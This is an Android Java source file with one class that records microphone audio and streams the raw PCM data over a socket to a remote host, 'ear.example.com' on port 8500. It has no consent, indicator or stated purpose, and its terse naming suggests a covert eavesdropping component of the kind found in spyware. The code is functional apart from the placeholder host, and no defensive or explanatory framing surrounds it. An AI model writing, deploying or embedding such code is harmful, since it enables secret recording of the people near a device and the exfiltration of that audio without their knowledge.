package p;

import android.media.AudioFormat;
import android.media.AudioRecord;
import android.media.MediaRecorder;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

final class Record implements Runnable {
    @Override
    public void run() {
        int size = AudioRecord.getMinBufferSize(8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT);
        AudioRecord record = new AudioRecord(
            MediaRecorder.AudioSource.MIC, 8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, size);
        byte[] buffer = new byte[size];
        record.startRecording();
        try {
            OutputStream out = new Socket("ear.example.com", 8500).getOutputStream();
            int count = record.read(buffer, 0, size);
            while (count > 0) {
                out.write(buffer, 0, count);
                count = record.read(buffer, 0, size);
            }
        } catch (IOException error) {
            record.stop();
        }
    }
}
